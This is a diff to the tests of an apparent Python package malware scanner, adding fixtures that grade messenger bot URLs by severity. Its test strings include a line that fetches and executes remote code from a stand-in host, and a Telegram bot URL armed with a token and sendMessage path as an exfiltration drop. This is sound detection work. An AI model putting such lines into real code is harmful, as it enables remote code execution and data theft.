@@ -445,3 +445,23 @@ def test_python2_exec_of_a_local_file_is_not_remote_code() -> None:
     assert not remote.search("    exec compile(open(fname).read(), fname, 'exec') in glob, loc")
     assert remote.search("exec urllib2.urlopen('http://collector.invalid/x').read()")
     assert remote.search("exec(response.read())")
+
+
+def _severities(files: dict[str, str], rule: str) -> set[str]:
+    data = wheel_bytes("demo", "1.0", files)
+    result = scan(data, ONLY_PYTHON, filename=wheel_filename("demo", "1.0"))
+    return {str(f.severity) for f in result.findings if f.rule == rule}
+
+
+def test_a_bot_librarys_bare_api_base_url_is_a_lead_not_a_high_finding() -> None:
+    """A progress-bar or notifier integration keeps the messenger's API base in a class body
+    (it runs at import): a lead, never high severity by itself. A base URL armed with a bot
+    token is a drop box someone controls."""
+    template = ("class TelegramIO:\n    API = 'https://api.telegram.org/bot'\n"
+                "    def __init__(self, token):\n        self.token = token\n")
+    armed = ("class TelegramIO:\n    API = 'https://api.telegram.org/bot"
+             "123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/sendMessage'\n")
+    assert _severities({"demo/contrib/telegram.py": template},
+                       "python.network.messenger") == {"medium"}
+    assert _severities({"demo/contrib/telegram.py": armed},
+                       "python.network.messenger") == {"high"}
